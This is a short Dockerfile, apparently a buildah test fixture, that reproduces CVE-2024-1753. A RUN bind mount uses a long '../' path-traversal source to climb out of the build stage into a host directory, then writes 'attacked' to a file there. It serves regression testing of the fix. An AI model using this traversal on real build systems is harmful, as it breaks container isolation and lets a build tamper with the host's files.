# The source of a bind mount climbs out of the stage (buildah's CVE-2024-1753).
ARG BASE
ARG HOST_DIRECTORY
FROM ${BASE} AS other
FROM ${BASE}
ARG HOST_DIRECTORY
RUN --mount=type=bind,from=other,source=../../../../../../../../../../../../${HOST_DIRECTORY},target=/bound,rw echo attacked > /bound/file && cat /bound/file
